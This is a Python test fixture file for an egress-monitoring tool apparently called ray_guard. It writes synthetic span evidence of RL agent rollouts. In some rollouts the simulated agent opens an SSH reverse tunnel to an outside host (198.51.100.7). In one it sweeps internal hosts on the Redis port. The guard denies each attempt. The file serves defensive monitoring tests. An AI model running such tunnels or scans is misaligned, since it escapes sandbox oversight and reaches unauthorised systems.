"""A small job's evidence, written by the real encoder and journal: eight rollouts, two iterations, some of them bad."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from ray_guard.evidence.journal import Journal
from ray_guard.evidence.otlp import LineEncoder
from ray_guard.evidence.reader import Quarantine, merge, read
from ray_guard.records import Resource, SpanEvent, SpanKind, SpanLink, SpanRecord, StatusCode
from ray_guard.report.index import Index

SECOND = 1_000_000_000
START = 1_772_854_811 * SECOND  # 2026-03-07 03:40:11 UTC


@dataclass
class Writer:
    """Journals spans as the supervisor does: a begun line, then an ended one."""

    journal: Journal
    actor: str = "env-0"
    identity: dict[str, Any] = field(default_factory=dict)
    numbers: Iterator[int] = field(default_factory=lambda: iter(range(1, 1 << 30)))

    def write(
        self,
        name: str,
        parent: SpanRecord | None,
        at: float,
        lasting: float | None = 0.0,
        *,
        source: str = "supervisor",
        kind: SpanKind = SpanKind.INTERNAL,
        status: StatusCode = StatusCode.UNSET,
        message: str = "",
        links: tuple[SpanLink, ...] = (),
        events: tuple[SpanEvent, ...] = (),
        **attributes: Any,
    ) -> SpanRecord:
        number = next(self.numbers)
        begun = SpanRecord(
            trace_id=parent.trace_id if parent else f"{number:032x}",
            span_id=f"{number:016x}",
            parent_id=parent.span_id if parent else None,
            name=name,
            kind=kind,
            start_ns=START + round(at * SECOND),
            end_ns=None,
            attributes=self.identity
            | {"ray_guard.source": source}
            | {key.replace("__", "."): value for key, value in attributes.items()},
            links=links,
        )
        encoder = LineEncoder(
            Resource(
                {
                    "service.name": "rome",
                    "host.name": "node-a",
                    "host.ip": ("192.0.2.1",),
                    "ray.actor_name": self.actor,
                    "rl.run.id": "demo",
                }
            )
        )
        self.journal.append(encoder.encode(begun))
        if lasting is None:
            return begun
        end = begun.start_ns + round(lasting * SECOND)
        ended = begun._replace(end_ns=end, status=status, status_message=message, events=events)
        self.journal.append(encoder.encode(ended))
        return ended

    def flow(self, parent: SpanRecord, at: float, peer: str, port: int, *, reason: str, **more: Any) -> SpanRecord:
        decision = more.pop("decision", "allow")
        attributes = {
            "network__transport": more.pop("network__transport", "tcp"),
            "network__peer__address": peer,
            "network__peer__port": port,
            "server__address": more.pop("name", peer),
            "ray_guard__egress__decision": decision,
            "ray_guard__egress__reason": reason,
            "ray_guard__egress__scope": "exact",
        }
        return self.write(
            "egress connect", parent, at, more.pop("lasting", 0.01), kind=SpanKind.CLIENT, **attributes, **more
        )

    def refused(self, parent: SpanRecord, at: float, peer: str, port: int, reason: str = "no rule grants it") -> None:
        flow = self.flow(parent, at, peer, port, reason=reason, decision="deny", status=StatusCode.ERROR)
        self.write(
            "ray_guard.violation",
            flow,
            at,
            ray_guard__violation__kind="egress_denied",
            error__type="EgressDenied",
            status=StatusCode.ERROR,
        )


def _job(writer: Writer) -> None:
    for iteration in (0, 1):
        writer.actor, writer.identity = "driver", {"rl.run.id": "demo", "rl.iteration": iteration}
        base = iteration * 20.0
        whole = writer.write("rl.iteration", None, base, 19.0, source="target")
        for number in range(4):
            writer.actor = f"env-{number % 2}"
            writer.identity = {
                "rl.run.id": "demo",
                "rl.iteration": iteration,
                "rl.rollout.id": f"r-{iteration}-{number}",
                "rl.group.id": f"g-{number // 2}",
                "rl.policy.version": str(iteration),
            }
            _rollout(writer, whole, iteration, number, base + number)


def _rollout(writer: Writer, iteration: SpanRecord, step: int, number: int, at: float) -> None:
    bad = number >= 2 - step
    killed = (step, number) == (1, 3)
    attributes: dict[str, Any] = {} if killed else {"rl__reward__score": 0.25 * number + 0.1 * step}
    rollout = writer.write(
        "invoke_agent rome",
        None,
        at,
        None if killed else 8.0,
        source="target",
        links=(SpanLink(iteration.trace_id, iteration.span_id),),
        gen_ai__operation__name="invoke_agent",
        **attributes,
    )
    writer.identity["rl.turn"] = 0
    turn = writer.write("rl.turn", rollout, at + 0.1, 7.0, source="target")
    writer.write(
        "chat qwen3-moe",
        turn,
        at + 0.2,
        0.8,
        source="target",
        kind=SpanKind.CLIENT,
        gen_ai__request__model="qwen3-moe",
        gen_ai__usage__input_tokens=1200,
        gen_ai__usage__output_tokens=34,
        ray_guard__flops=2.5e12,
    )
    call = writer.write(
        "execute_tool bash",
        turn,
        at + 1,
        1.5,
        source="target",
        gen_ai__tool__name="bash",
        gen_ai__tool__call__id=f"call-{step}-{number}",
    )
    process = writer.write(
        "process curl",
        call,
        at + 1.1,
        1.0,
        process__pid=4242 + number,
        process__executable__path="/usr/bin/curl",
        process__command_args=("curl", "-sO", "http://127.0.0.1:8080/data.tar"),
    )
    writer.flow(
        process,
        at + 1.2,
        "127.0.0.1",
        8080,
        reason="127.0.0.1:8080",
        lasting=0.6,
        network__local__address="127.0.0.1",
        network__local__port=40000 + 10 * step + number,
        ray_guard__egress__bytes_sent=180,
        ray_guard__egress__bytes_received=5 * 1024 * 1024 + number,
    )
    if bad:
        tunnel = writer.write(
            "execute_tool bash",
            turn,
            at + 3,
            None if killed else 1.0,
            source="target",
            status=StatusCode.ERROR,
            message="exit status 255",
            gen_ai__tool__name="bash",
        )
        attributes = {"ray_guard__ended_by": "supervisor"} if killed else {}
        ssh = writer.write(
            "process ssh",
            tunnel,
            at + 3.1,
            0.5,
            process__pid=5000 + number,
            process__command_args=("ssh", "-N", "-R", "2222:localhost:22", "user@198.51.100.7"),
            process__exit__code=255,
            status=StatusCode.ERROR,
            message="killed with its call" if killed else "",
            **attributes,
        )
        writer.refused(ssh, at + 3.2, "198.51.100.7", 22)
        writer.refused(ssh, at + 3.3, "198.51.100.7", 22)
    if (step, number) == (0, 3):
        sweep = writer.write("execute_tool python", turn, at + 5, 1.0, source="target", gen_ai__tool__name="python")
        for host in range(1, 21):
            writer.refused(sweep, at + 5 + host / 100, f"10.20.0.{host}", 6379)


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    with Journal(tmp_path / "evidence") as journal:
        _job(Writer(journal))
    return tmp_path / "evidence"


@pytest.fixture
def writer(tmp_path: Path) -> Iterator[Writer]:
    with Journal(tmp_path / "evidence") as journal:
        yield Writer(journal)


def load(folder: Path) -> Index:
    quarantine = Quarantine()
    index = Index(merge(read([folder], quarantine)).values())
    assert not quarantine.total
    return index


@pytest.fixture
def index(evidence: Path) -> Index:
    return load(evidence)
